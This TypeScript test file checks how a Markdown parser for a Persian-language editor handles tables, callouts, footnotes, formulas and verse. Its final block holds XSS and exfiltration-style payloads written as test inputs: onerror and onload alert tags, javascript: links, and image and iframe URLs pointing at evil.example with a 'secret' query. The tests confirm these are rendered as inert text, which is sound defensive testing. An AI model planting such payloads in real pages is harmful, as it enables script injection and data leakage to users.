// What becomes of the structures that CommonMark does not have, one by one.
import type { ArticleNode } from '@hamnevis/core/document/yjs';
import { describe, expect, it } from 'vitest';
import { articleFromMarkdown } from '../build-article.ts';
import { MarkdownMachine } from './markdown-machine.ts';
import { noteIdOf } from './note-label.ts';

const RUN = 'run-1';

/** An article in one line: `name{attributes}(children)`, text in quotes with its marks behind it. */
function shown(node: ArticleNode): string {
  const attrs = Object.values(node.attrs ?? {});
  const told = attrs.length === 0 ? '' : `{${attrs.join(',')}}`;
  if (node.text !== undefined) {
    const marks = (node.marks ?? []).map(
      (mark) => `^${[mark.type, ...Object.values(mark.attrs ?? {})].join(':')}`,
    );
    return `'${node.text}'${marks.join('')}`;
  }
  return `${node.type}${told}(${(node.content ?? []).map(shown).join(' ')})`;
}

const blocksOf = (markdown: string) => (articleFromMarkdown(markdown, RUN).content ?? []).map(shown);

describe('tables', () => {
  const row = (cell: string, ...texts: string[]) =>
    `tableRow(${texts.map((text) => `${cell}(paragraph(${text === '' ? '' : `'${text}'`}))`).join(' ')})`;

  it('have heads, rows and the alignment of their columns', () => {
    expect(blocksOf('| شهر | سال |\n|:-:|---:|\n| یزد | ۱۴۰۵ |')).toEqual([
      "table(tableRow(tableHeader{center}(paragraph('شهر')) tableHeader{right}(paragraph('سال'))) " +
        "tableRow(tableCell{center}(paragraph('یزد')) tableCell{right}(paragraph('۱۴۰۵'))))",
    ]);
  });

  it('end a paragraph, and end with the first line that has no bar in front', () => {
    expect(blocksOf('بند\n| a |\n|---|\n| b |\nپس از آن')).toEqual([
      "paragraph('بند')",
      `table(${row('tableHeader', 'a')} ${row('tableCell', 'b')})`,
      "paragraph('پس از آن')",
    ]);
  });

  it('fill up short rows, and keep the words of rows that are too long', () => {
    expect(blocksOf('|a|b|\n|-|-|\n|1\n|1|2|3|| 4 |\n| | |\n||\n')).toEqual([
      `table(${[
        row('tableHeader', 'a', 'b'),
        row('tableCell', '1', ''),
        row('tableCell', '1', '2 | 3 | 4'),
        row('tableCell', '', ''),
      ].join(' ')})`,
    ]);
  });

  it('have marks and formulas in their cells, and a bar behind a backslash is a letter', () => {
    expect(blocksOf('|a|\n|-|\n|**x** `p\\|q` \\| $k$ \\\\|')).toEqual([
      `table(${row('tableHeader', 'a')} tableRow(tableCell(paragraph('x'^bold ' ' 'p|q'^code ' | ' formulaInline{k}() ' \\'))))`,
    ]);
  });

  it('stand in quotes and in items of lists', () => {
    expect(blocksOf('> |a|\n> |-|\n> |b|\n\n- c\n\n  |d|\n  |-|\n  |e|\n|f|')).toEqual([
      `blockquote(table(${row('tableHeader', 'a')} ${row('tableCell', 'b')}))`,
      `bulletList(listItem(paragraph('c') table(${row('tableHeader', 'd')} ${row('tableCell', 'e')})))`,
      "paragraph('|f|')",
    ]);
  });

  it('are text without their dashes, with the wrong number of them, or with too many columns', () => {
    expect(blocksOf('|a|b|\n|-|\n\n|a\n\n> |a|\n|-|')).toEqual([
      "paragraph('|a|b| |-|')",
      "paragraph('|a')",
      "blockquote(paragraph('|a|'))",
      "paragraph('|-|')",
    ]);
    const wide = `${'|a'.repeat(25)}|\n${'|-'.repeat(25)}|`;
    expect(blocksOf(wide)).toEqual([`paragraph('${wide.replace('\n', ' ')}')`]);
  });

  it('cannot hold tables: what looks like one in a cell is its text', () => {
    expect(blocksOf('|a|b|\n|-|-|\n|<table><tr><td>x|y|')).toEqual([
      `table(${row('tableHeader', 'a', 'b')} ${row('tableCell', '<table><tr><td>x', 'y')})`,
    ]);
  });

  it('say a row with its first letter, whole, and each cell as it comes', () => {
    const machine = new MarkdownMachine();
    const said = (text: string) =>
      machine.push(text).map((operation) => (operation.type === 'text' ? operation.text : operation.type));
    expect(said('|a|b|\n|-|-|')).toEqual([]);
    expect(said('\n')).toEqual(['open', 'a', 'open', 'b']);
    expect(said('| ')).toEqual([]);
    expect(said('س')).toEqual(['open', 'س']);
    expect(said('لام | ')).toEqual(['لام']);
    expect(said('د')).toEqual(['open', 'د']);
  });

  it('read a cell of ten million letters as it comes', { timeout: 60_000 }, () => {
    const machine = new MarkdownMachine();
    machine.push('|a|\n|-|\n|');
    const piece = 'کلمه '.repeat(2000);
    let letters = 0;
    for (let at = 0; at < 10_000_000; at += piece.length) {
      for (const operation of machine.push(piece))
        if (operation.type === 'text') letters += operation.text.length;
    }
    // But for the last space, which may be the end of the cell.
    expect(letters).toBe(10_000_000 - 1);
  });
});

describe('callouts and details', () => {
  it('are quotes with a sign, of every kind that other programs know', () => {
    expect(
      blocksOf('> [!NOTE]\n> بند\n>\n> - مورد\n\n> [!caution]- در همان سطر\n\n> [!important]\n> x'),
    ).toEqual([
      "callout{note}(paragraph('بند') bulletList(listItem(paragraph('مورد'))))",
      "callout{danger}(paragraph('در همان سطر'))",
      "callout{warning}(paragraph('x'))",
    ]);
  });

  it('are quotes with an unknown sign, and nothing when nothing stands in them', () => {
    expect(blocksOf('> [!x]\n> a\n\n> [!tip]\n\nb\n\n> a\n> [!tip]\n> b')).toEqual([
      "blockquote(paragraph('[!x] a'))",
      "paragraph('b')",
      "blockquote(paragraph('a [!tip] b'))",
    ]);
  });

  it('stand between colons, in each other too, and end with theirs', () => {
    expect(blocksOf(':::tip عنوان\nمتن\n:::details چرا؟\nچون\n:::\nباز\n:::\nبیرون\n:::\n:::ناشناس')).toEqual(
      [
        "callout{tip}(paragraph('عنوان'^bold) paragraph('متن') details(detailsSummary('چرا؟') paragraph('چون')) paragraph('باز'))",
        "paragraph('بیرون ::: :::ناشناس')",
      ],
    );
  });

  it('are read from the two tags that Markdown has for them, and from no other', () => {
    expect(
      blocksOf(
        '<details open>\n<summary>چرا **این**؟</summary>\n\n## تیتر\n\nبند\n</details>\n<b>x</b>\n</details>',
      ),
    ).toEqual([
      "details(detailsSummary('چرا ' 'این'^bold '؟') heading{2}('تیتر') paragraph('بند'))",
      "paragraph('<b>x</b> </details>')",
    ]);
    expect(blocksOf('<details onclick="x()">\na\n</details>\n\n<summary>b</summary>')).toEqual([
      'paragraph(\'<details onclick="x()"> a </details>\')',
      "paragraph('<summary>b</summary>')",
    ]);
  });

  it('stand at most three deep', () => {
    expect(blocksOf(`${':::note\n'.repeat(5)}a`)).toEqual([
      "callout{note}(callout{note}(callout{note}(paragraph(':::note') paragraph(':::note a'))))",
    ]);
  });
});

describe('footnotes', () => {
  const id = (label: string) => noteIdOf(RUN, label);

  it('bind a mark and its text by an id of the run', () => {
    expect(blocksOf('الف[^۱] و ب[^x].\n\n[^1]: نخست *مهم*\n[^X]: دوم')).toEqual([
      `paragraph('الف' footnoteMark{${id('1')}}() ' و ب' footnoteMark{${id('x')}}() '.')`,
      `footnote{${id('1')}}('نخست ' 'مهم'^italic)`,
      `footnote{${id('x')}}('دوم')`,
    ]);
    expect(noteIdOf('run-2', '1')).not.toBe(id('1'));
    expect(id('1')).toMatch(/^[0-9a-z]{16}$/);
  });

  it('get an empty text at the end when none came, and a second text stays text', () => {
    expect(blocksOf('a[^x]\n\n[^y]: b\n\n[^y]: c')).toEqual([
      `paragraph('a' footnoteMark{${id('x')}}())`,
      `footnote{${id('y')}}('b')`,
      `paragraph(footnoteMark{${id('y')}}() ': c')`,
      `footnote{${id('x')}}()`,
    ]);
  });

  it('are text where their name is none', () => {
    expect(blocksOf('[^] [^a b] \\[^x] `[^x]`')).toEqual(["paragraph('[^] [^a b] [^x] ' '[^x]'^code)"]);
  });
});

describe('formulas', () => {
  it('stand in the line between dollars or brackets, with all their signs', () => {
    expect(blocksOf('a $x_1*y_2*\\$$ و **\\( a|b \\)** و $$c$$.')).toEqual([
      "paragraph('a ' formulaInline{x_1*y_2*\\$}() ' و ' formulaInline{a|b}() ' و ' formulaInline{c}() '.')",
    ]);
  });

  it('stand on lines of their own', () => {
    expect(blocksOf('a\n$$\nx \\\\[2pt]\n> y\n$$\n\n\\[ z \\]\n- b\n  $$c$$')).toEqual([
      "paragraph('a')",
      'formulaBlock{x \\\\[2pt]\n> y}()',
      'formulaBlock{z}()',
      "bulletList(listItem(paragraph('b') formulaBlock{c}()))",
    ]);
  });

  it('are no prices, no variables of a shell and no escaped signs', () => {
    for (const text of ['$5 تا $10', '$20,000 and US$30', 'a$b$c', '$ x $', 'fee: $5', '$', '$$', '$$$$']) {
      expect(blocksOf(text)).toEqual([`paragraph('${text}')`]);
    }
    expect(blocksOf('\\$x\\$ \\(a')).toEqual(["paragraph('$x$ (a')"]);
  });

  it('that nobody ends are read as the text they are, with its lists and headings', () => {
    expect(blocksOf('$$\nx\n\n- a\n- b\n\n## c')).toEqual([
      "paragraph('$$ x')",
      "bulletList(listItem(paragraph('a')) listItem(paragraph('b')))",
      "heading{2}('c')",
    ]);
    const endless = `$$\n${'word '.repeat(1500)}`;
    expect(blocksOf(endless)).toEqual([`paragraph('$$ ${'word '.repeat(1500).trim()}')`]);
  });
});

describe('verse', () => {
  it('is couplets of two half-lines, on one line or on two', () => {
    expect(blocksOf(':::verse\nالف ب\tج د\nه و / ز **ح**\n\nط ی\nک ل\n\nم\n:::\nن')).toEqual([
      "couplet(hemistich('الف ب') hemistich('ج د'))",
      "couplet(hemistich('ه و') hemistich('ز ' 'ح'^bold))",
      "couplet(hemistich('ط ی') hemistich('ک ل'))",
      "couplet(hemistich('م'))",
      "paragraph('ن')",
    ]);
  });

  it('has no other blocks, and goes on to the end when nobody ends it', () => {
    expect(blocksOf(':::بیت\n- الف\n| ب |\n> x\n# ج')).toEqual([
      "couplet(hemistich('- الف') hemistich('| ب |'))",
      "couplet(hemistich('> x') hemistich('# ج'))",
    ]);
  });
});

describe('what a model may not bring in', () => {
  it('an image is the text it was written as: nothing to fetch and nothing to press', () => {
    for (const text of [
      '![x](http://evil.example/?q=secret)',
      '![](https://evil.example/a.png "t")',
      '<img src=x onerror=alert(1)>',
      '<svg onload=alert(1)>',
      '<iframe src="https://evil.example"></iframe>',
    ]) {
      expect(blocksOf(text)).toEqual([`paragraph('${text}')`]);
    }
    expect(blocksOf('[![x](http://e.com/x.png)](https://e.com)').join('')).not.toContain(
      '^link:http://e.com/x.png',
    );
  });

  it('a link that is a script is its words, in cells, notes, summaries and half-lines too', () => {
    const link = '[x](javascript:alert(1))';
    const everywhere = [
      `|${link}|\n|-|\n|${link}|`,
      `a[^1]\n\n[^1]: ${link}`,
      `<details>\n<summary>${link}</summary>\n\n${link}\n</details>`,
      `:::verse\n${link} / ${link}\n:::`,
      `> [!NOTE]\n> ${link}`,
    ];
    for (const text of everywhere) {
      const said = blocksOf(text).join('');
      expect(said).toContain("'x'");
      expect(said).not.toContain('javascript');
    }
  });
});
